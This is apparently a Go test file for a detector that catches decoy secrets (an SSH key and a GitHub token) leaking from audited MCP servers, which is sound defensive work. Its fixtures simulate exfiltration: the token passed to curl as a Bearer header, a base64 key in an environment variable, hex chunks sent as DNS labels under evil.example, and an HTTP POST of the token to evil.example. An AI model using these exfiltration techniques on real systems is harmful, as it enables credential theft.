package leak_test

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/mcpaudit/mcpaudit/api/report"
	"github.com/mcpaudit/mcpaudit/runner/decoy"
	"github.com/mcpaudit/mcpaudit/runner/leak"
	"github.com/mcpaudit/mcpaudit/runner/ledger"
	"github.com/mcpaudit/mcpaudit/runner/sinkhole"
	"github.com/mcpaudit/mcpaudit/runner/trace"
)

var (
	first  = report.Capability{Kind: report.CapabilityTool, Name: "first"}
	second = report.Capability{Kind: report.CapabilityTool, Name: "second"}
	// session has two calls; in[n] is a position in flight of each.
	session = ledger.Ledger{
		{Phase: report.PhaseCall, Capability: first, Method: "tools/call", SentStart: 0, SentEnd: 100, Received: 1000},
		{Phase: report.PhaseCall, Capability: second, Method: "tools/call", SentStart: 100, SentEnd: 200, Received: 2000},
	}
	in = []trace.Position{{In: 100, Out: 0}, {In: 200, Out: 1000}}

	start  = time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)
	local  = netip.MustParseAddrPort("28.18.7.7:40000")
	remote = netip.MustParseAddrPort("93.184.216.34:80")
)

func newCollector(t *testing.T) (*leak.Collector, decoy.Set) {
	t.Helper()
	set, err := decoy.New("/home/server", false)
	if err != nil {
		t.Fatal(err)
	}
	return leak.New(set), set
}

// key is the text of the private key, token the value of GITHUB_TOKEN.
func key(t *testing.T, set decoy.Set) string {
	t.Helper()
	f, ok := set.Find("/home/server/.ssh/id_rsa")
	if !ok {
		t.Fatal("no key")
	}
	return string(f.Content)
}

func token(t *testing.T, set decoy.Set) string {
	t.Helper()
	for _, v := range set.Vars {
		if v.Name == "GITHUB_TOKEN" {
			return v.Value
		}
	}
	t.Fatal("no token")
	return ""
}

// sent is a send over TCP in one of the calls.
func sent(call int, data string) trace.Event {
	return trace.Event{
		Op: trace.OpSend, Syscall: "write", PID: 7, Time: start.Add(time.Duration(call) * time.Second), At: in[call],
		Socket: &trace.Socket{Family: "inet", Protocol: "tcp", Local: local, Remote: remote},
		Data:   []byte(data), Size: int64(len(data)),
	}
}

// brief returns what the tests compare.
func brief(leaks []leak.Leak) string {
	var lines []string
	for _, l := range leaks {
		line := fmt.Sprintf("%s: %s %s to %s as %s", l.Capability.Name, l.Decoy.Name, l.Channel, l.Destination, l.Encoding)
		if l.Home {
			line += ", at home"
		}
		lines = append(lines, line)
	}
	return strings.Join(lines, "\n")
}

func want(t *testing.T, c *leak.Collector, lines ...string) []leak.Leak {
	t.Helper()
	leaks := c.Finish(session)
	if got := brief(leaks); got != strings.Join(lines, "\n") {
		t.Errorf("got:\n%s\nwant:\n%s", got, strings.Join(lines, "\n"))
	}
	for _, l := range leaks {
		if e := l.Evidence(); e.Time.IsZero() && l.Channel != leak.Answer && l.Channel != leak.Stderr || e.Detail == "" || l.Count < 1 {
			t.Errorf("evidence %+v of %+v", e, l)
		}
	}
	return leaks
}

const keyName = "/home/server/.ssh/id_rsa"

func TestPiecesOfAStream(t *testing.T) {
	c, set := newCollector(t)
	for text := key(t, set); text != ""; text = text[min(11, len(text)):] {
		c.Event(sent(0, text[:min(11, len(text))]))
	}
	want(t, c, "first: "+keyName+" TCP to 93.184.216.34:80 as plain")
}

// TestCalls: one connection, two calls.
func TestCalls(t *testing.T) {
	c, set := newCollector(t)
	c.Event(sent(0, "hello "+strings.Repeat(".", 3000)))
	c.Event(sent(1, token(t, set)))
	c.Event(sent(1, strings.Repeat(".", 200<<10)))
	want(t, c, "second: GITHUB_TOKEN TCP to 93.184.216.34:80 as plain")
}

// TestCutPayload: the trace has the beginning of each call only.
func TestCutPayload(t *testing.T) {
	c, set := newCollector(t)
	e := sent(0, token(t, set)[:22])
	e.Cut, e.Size = true, 5000
	c.Event(e)
	c.Event(sent(0, token(t, set)[22:36]))
	want(t, c, "first: GITHUB_TOKEN TCP to 93.184.216.34:80 as plain")
}

func TestFailedSendIsNoLeak(t *testing.T) {
	c, set := newCollector(t)
	e := sent(0, token(t, set))
	e.Errno = "ECONNREFUSED"
	c.Event(e)
	want(t, c)
}

func TestMovedWithoutALook(t *testing.T) {
	c, _ := newCollector(t)
	e := sent(0, "")
	e.From, e.Size, e.Cut, e.Syscall = keyName, 1700, true, "sendfile"
	c.Event(e)
	c.Event(trace.Event{Op: trace.OpStore, Syscall: "copy_file_range", Time: start, At: in[1], Path: "/tmp/copy", From: keyName})
	want(t, c, "first: "+keyName+" TCP to 93.184.216.34:80 as plain", "second: "+keyName+" file to /tmp/copy as plain")
}

func TestFiles(t *testing.T) {
	c, set := newCollector(t)
	c.Event(trace.Event{Op: trace.OpStore, Syscall: "write", Time: start, At: in[0], Path: keyName, Data: []byte(key(t, set))})
	c.Event(trace.Event{Op: trace.OpStore, Syscall: "write", Time: start, At: in[0], Path: "/tmp/x", Data: []byte(hex.EncodeToString([]byte(key(t, set))))})
	want(t, c, "first: "+keyName+" file to /tmp/x as hex")
}

// TestPrograms: what they inherit is no leak, and not in the event; what they
// are told is.
func TestPrograms(t *testing.T) {
	c, set := newCollector(t)
	exec := trace.Event{Op: trace.OpExec, Syscall: "execve", Time: start, At: in[0], Path: "/usr/bin/curl"}
	exec.Argv, exec.Env = []string{"curl", "https://example.net/"}, []string{"LANG=C"}
	c.Event(exec)
	exec.Argv = []string{"curl", "-H", "Authorization: Bearer " + token(t, set), "https://example.net/"}
	c.Event(exec)
	exec.Argv, exec.Env = []string{"sh"}, []string{"KEY=" + base64.StdEncoding.EncodeToString([]byte(key(t, set)))[:1000]}
	c.Event(exec)
	exec.Errno, exec.At = "ENOENT", in[1]
	c.Event(exec)
	want(t, c, "first: "+keyName+" environment to /usr/bin/curl as base64", "first: GITHUB_TOKEN argv to /usr/bin/curl as plain")
}

func TestUnixSocket(t *testing.T) {
	c, set := newCollector(t)
	e := sent(1, token(t, set))
	e.Socket = &trace.Socket{Family: "unix", Protocol: "unix", Path: "/run/docker.sock"}
	c.Event(e)
	want(t, c, "second: GITHUB_TOKEN unix socket to /run/docker.sock as plain")
}

// TestAnswers: they belong to the request that they came before the answer of.
func TestAnswers(t *testing.T) {
	c, set := newCollector(t)
	c.Response([]byte(`{"jsonrpc":"2.0","method":"notifications/message","params":{"data":"`+token(t, set)+`"}}`), 1500)
	c.Response([]byte(`{"jsonrpc":"2.0","id":1,"result":"`+strings.ReplaceAll(key(t, set), "\n", `\n`)+`"}`), 1000)
	c.Response([]byte(`{"jsonrpc":"2.0","id":9,"result":"`+token(t, set)+`"}`), 2500)
	leaks := c.Finish(session)
	if len(leaks) != 3 || leaks[0].Capability != second || leaks[1].Capability != first || leaks[2].Phase != report.PhaseIdle {
		t.Errorf("%+v", leaks)
	}
}

// TestWire: what is said beside the messages has come as well, in whatever pieces, and
// what is said in one is one leak.
// An answer is not that of a call which was given up long before it came.
func TestAnswersAfterOneThatNeverCame(t *testing.T) {
	session := ledger.Ledger{
		{Phase: report.PhaseCall, Capability: first, Method: "tools/call", SentStart: 0, SentEnd: 100},
		{Phase: report.PhaseCall, Capability: second, Method: "tools/call", SentStart: 100, SentEnd: 200, Received: 2000},
		{Phase: report.PhaseCall, Capability: first, Method: "tools/call", SentStart: 200, SentEnd: 300},
	}
	for end, of := range map[int64]report.Capability{1500: second, 2000: second, 2500: first} {
		c, set := newCollector(t)
		c.Response([]byte(token(t, set)), end)
		leaks := c.Finish(session)
		if len(leaks) != 1 || leaks[0].Capability != of {
			t.Errorf("up to byte %d: leaks %s, want one of %s", end, brief(leaks), of)
		}
	}
}

func TestWire(t *testing.T) {
	c, set := newCollector(t)
	secret := token(t, set)
	head := "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
	c.Wire(1, []byte(head+"X-Trace: "+secret[:20]), 100)
	c.Wire(2, []byte(head), 150)
	c.Wire(1, []byte(secret[20:]+"\r\n\r\n{}"), 200)
	c.Wire(1, nil, 200)
	c.Wire(2, []byte("\r\n"+secret), 2000)
	c.Response([]byte(secret), 2000)
	leaks := c.Finish(session)
	if len(leaks) != 2 || leaks[0].Capability != first || leaks[1].Capability != second || c.Unsearched() != 0 {
		t.Errorf("%+v, %d", leaks, c.Unsearched())
	}
}

// TestLogs: a byte at a time, in turns.
func TestLogs(t *testing.T) {
	c, set := newCollector(t)
	c.Asked(report.PhaseCall, first)
	for _, b := range []byte("debug: " + token(t, set)) {
		for _, channel := range []leak.Channel{leak.Stderr, leak.Stdout} {
			if n, err := c.Log(channel).Write([]byte{b}); n != 1 || err != nil {
				t.Fatal(n, err)
			}
		}
	}
	c.Asked(report.PhaseCall, second)
	want(t, c, "first: GITHUB_TOKEN stderr to  as plain", "first: GITHUB_TOKEN stdout to  as plain")
}

// asked is a question to a name server.
func asked(name string) trace.Event {
	e := sent(0, "")
	e.Socket = &trace.Socket{Family: "inet", Protocol: "udp", Remote: netip.MustParseAddrPort("8.8.8.8:53"), Host: name}
	return e
}

// TestNames: a secret in labels, in many names, in whatever case, each asked for
// twice, with other labels around.
func TestNames(t *testing.T) {
	for name, form := range map[string]func(n int, piece string) string{
		"one label":    func(_ int, p string) string { return p + ".evil.example" },
		"two labels":   func(_ int, p string) string { return p[:len(p)/2] + "." + p[len(p)/2:] + ".evil.example" },
		"count behind": func(n int, p string) string { return fmt.Sprintf("%s.%d.x.evil.example", strings.ToUpper(p), n) },
		"count first":  func(n int, p string) string { return fmt.Sprintf("%d.%s.evil.example.", n, p) },
	} {
		for _, size := range []int{6, 20, 60} {
			c, set := newCollector(t)
			text := hex.EncodeToString([]byte(token(t, set)))
			for n := 0; text != ""; n++ {
				piece := text[:min(size, len(text))]
				text = text[len(piece):]
				c.Event(asked(form(n, piece)))
				c.Event(asked(form(n, piece))) // A and AAAA
			}
			if got := brief(c.Finish(session)); got != "first: GITHUB_TOKEN DNS to evil.example as hex" {
				t.Errorf("%s, %d bytes each: %s", name, size, got)
			}
		}
	}
}

// capture returns what the sinkhole has of sent.
func capture(protocol, host string, destination netip.AddrPort, data string) sinkhole.Capture {
	return sinkhole.Capture{
		Time: start, Flow: 1, Source: local, Destination: destination, Host: host, Protocol: protocol,
		Request: "POST /in HTTP/1.1", Data: []byte(data), Size: int64(len(data)),
	}
}

// TestEncrypted: the sinkhole knows what, the trace knows when.
func TestEncrypted(t *testing.T) {
	c, set := newCollector(t)
	c.Event(sent(0, "\x16\x03\x01 hello, and the end of the handshake"+strings.Repeat("?", 400)))
	c.Event(sent(0, "\x17\x03\x03"+strings.Repeat("?", 120)))
	c.Event(sent(1, "\x17\x03\x03"+strings.Repeat("?", 120)))
	plain := strings.Repeat("GET / HTTP/1.1\r\n\r\n", 6)
	c.Capture(capture("https", "evil.example", remote, plain))
	more := capture("https", "evil.example", remote, "key="+token(t, set))
	more.Offset, more.Size = int64(len(plain)), int64(len(plain)+len(more.Data))
	more.Time = start.Add(time.Second + time.Millisecond)
	c.Capture(more)
	leaks := want(t, c, "second: GITHUB_TOKEN HTTPS to evil.example:80 as plain")
	if len(leaks) == 1 && (leaks[0].PID != 7 || leaks[0].Request == "") {
		t.Errorf("%+v", leaks[0])
	}
}

// TestSeenTwice: what both have is one leak.
func TestSeenTwice(t *testing.T) {
	c, set := newCollector(t)
	text := "POST /in HTTP/1.1\r\n\r\n" + token(t, set)
	c.Event(sent(1, text))
	c.Capture(capture("http", "evil.example", remote, text))
	want(t, c, "second: GITHUB_TOKEN HTTP to evil.example:80 as plain")
}

// TestHome: a token may go to the service that it is for, where that is known by
// its address and not by what the server says.
func TestHome(t *testing.T) {
	fake := netip.MustParseAddrPort("28.18.33.4:443")
	for name, tc := range map[string]struct {
		named, looked, said string
		at                  netip.AddrPort
		home                bool
	}{
		"its own service":    {"api.github.com", "api.github.com", "api.github.com", fake, true},
		"a lie in SNI":       {"", "", "api.github.com", remote, false},
		"a forged answer":    {"", "api.github.com", "api.github.com", remote, false},
		"a forged name":      {"evil.example", "api.github.com", "api.github.com", fake, false},
		"an unknown address": {"", "api.github.com", "api.github.com", fake, false},
		"another":            {"evil.example", "evil.example", "evil.example", fake, false},
		"one like it":        {"notgithub.com", "notgithub.com", "notgithub.com", fake, false},
	} {
		c, set := newCollector(t)
		e := sent(0, "\x17\x03\x03???")
		e.Socket.Remote, e.Socket.Host = tc.at, tc.looked
		c.Event(e)
		part := capture("https", tc.said, tc.at, "Authorization: Bearer "+token(t, set))
		part.Named = tc.named
		c.Capture(part)
		if leaks := c.Finish(session); len(leaks) != 1 || leaks[0].Home != tc.home {
			t.Errorf("%s: %+v", name, leaks)
		}
	}
	c, set := newCollector(t)
	e := sent(0, key(t, set))
	e.Socket.Host = "github.com"
	c.Event(e)
	want(t, c, "first: "+keyName+" TCP to github.com:80 as plain")
}

// TestBounds: more streams, sockets and flows than are kept lose nothing that is
// not counted.
func TestBounds(t *testing.T) {
	c, set := newCollector(t)
	for n := range 5000 {
		e := sent(0, "nothing")
		e.Socket.Local = netip.AddrPortFrom(local.Addr(), uint16(n+1))
		e.Socket.Remote = netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 1, byte(n >> 8), byte(n)}), 80)
		e.Data = []byte(token(t, set))
		c.Event(e)
		part := capture("http", "evil.example", e.Socket.Remote, token(t, set))
		part.Flow, part.Source = uint64(n+1), e.Socket.Local
		c.Capture(part)
	}
	if leaks := c.Finish(session); len(leaks) == 0 || leaks[0].Count < 1000 || c.Unsearched() == 0 {
		t.Errorf("%d leaks, %d unsearched", len(leaks), c.Unsearched())
	}
}
